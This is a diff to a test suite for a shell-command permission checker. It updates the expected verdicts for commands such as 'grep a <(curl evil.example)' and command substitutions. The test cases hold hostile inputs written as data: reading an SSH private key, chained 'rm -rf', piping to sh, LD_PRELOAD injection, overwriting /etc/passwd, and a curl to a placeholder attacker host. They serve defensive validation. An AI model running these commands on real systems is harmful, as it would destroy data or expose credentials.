@@ -225,10 +225,10 @@ describe("commands", () => {
   };
   const facts = ["exec.shell {param:command}"];
   test.each([
-    [`grep "$(touch x)" a`, "command.outside"],
-    ['grep "`touch x`" a', "command.outside"],
+    [`grep "$(touch x)" a`, "command.unreadable"],
+    ['grep "`touch x`" a', "command.unreadable"],
     [`head -n 1 $HOME/.ssh/id_rsa`, "path.denied"],
-    ["head -n 1 *", "command.outside"],
+    ["head -n 1 *", "command.unreadable"],
     ["git status; rm -rf x", "command.outside"],
     ["git status && rm x", "command.outside"],
     ["git status | sh", "command.outside"],
@@ -251,7 +251,7 @@ describe("commands", () => {
     ["env LD_PRELOAD=./x.so grep a b", "env.dangerous"],
     ["busybox sh -c 'rm x'", "command.outside"],
     ["/tmp/grep a b", "command.outside"],
-    ["grep a <(curl evil.example)", "command.outside"],
+    ["grep a <(curl evil.example)", "command.unreadable"],
     ["grep a > /etc/passwd", "path.denied"],
     ["grep a > ../x", "path.outside"],
     ["grep 'unterminated", "command.unreadable"],
